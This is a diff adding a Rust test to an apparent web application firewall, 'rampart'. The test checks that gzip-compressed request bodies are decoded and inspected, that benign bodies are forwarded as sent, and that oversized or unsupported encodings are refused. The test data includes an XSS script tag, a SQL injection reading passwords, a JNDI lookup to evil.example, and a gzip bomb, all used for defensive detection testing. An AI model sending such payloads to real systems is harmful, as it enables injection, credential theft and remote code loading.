@@ -328,6 +328,73 @@ async fn json_is_read_as_json_whatever_its_label() {
     assert!(answer.contains(r#""body":" GIF89a;data""#), "{answer}");
 }
 
+/// A gzip or deflate body is checked as the app reads it, decoded, and forwarded as sent.
+/// Read raw, benign compressed bodies were refused and attacks inside them passed.
+#[tokio::test]
+async fn compressed_bodies_are_read_decoded_and_forwarded_as_sent() {
+    use std::io::Write;
+
+    let upstream = Upstream::start("a").await;
+    let rampart = Rampart::start(&config(&upstream, "max_body = \"1MB\""));
+    let client = plain_client();
+    let gzip = |data: &[u8]| {
+        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+        encoder.write_all(data).unwrap();
+        encoder.finish().unwrap()
+    };
+    let post = |content_type: &str, encoding: &str, body: Vec<u8>| {
+        client
+            .post(rampart.plain_url("/api"))
+            .header("content-type", content_type)
+            .header("content-encoding", encoding)
+            .body(body)
+            .send()
+    };
+
+    let benign = gzip(br#"{"message": "hello there, see you at 5"}"#);
+    let response = post("application/json", "gzip", benign.clone())
+        .await
+        .unwrap();
+    assert_eq!(response.status(), 200);
+    let echo: serde_json::Value = response.json().await.unwrap();
+    assert_eq!(echo["headers"]["content-encoding"], "gzip");
+    assert_eq!(echo["body"], String::from_utf8_lossy(&benign).as_ref());
+    let response = post(
+        "application/x-www-form-urlencoded",
+        "gzip",
+        gzip(b"q=hello"),
+    )
+    .await
+    .unwrap();
+    assert_eq!(response.status(), 200);
+
+    for (content_type, attack) in [
+        (
+            "application/json",
+            &br#"{"q": "<script>alert(1)</script>"}"#[..],
+        ),
+        (
+            "application/x-www-form-urlencoded",
+            b"q=1%27%20union%20select%20password%20from%20users--",
+        ),
+        (
+            "application/octet-stream",
+            br#"["${jndi:ldap://evil.example/a}"]"#,
+        ),
+    ] {
+        let response = post(content_type, "gzip", gzip(attack)).await.unwrap();
+        envelope(response, 403, "attack_detected").await;
+    }
+
+    let response = post("application/json", "br", benign).await.unwrap();
+    let refusal = envelope(response, 415, "unsupported_media_type").await;
+    assert_eq!(refusal["field"], "header:content-encoding");
+    // 4 MiB of spaces in 4 KiB, against a 1 MB limit.
+    let bomb = gzip(&vec![b' '; 4 << 20]);
+    let response = post("application/json", "gzip", bomb).await.unwrap();
+    envelope(response, 413, "payload_too_large").await;
+}
+
 /// `rampart inspect`: each value's findings and verdict, from the arguments or standard
 /// input, and exit code 1 when one would be refused.
 #[test]
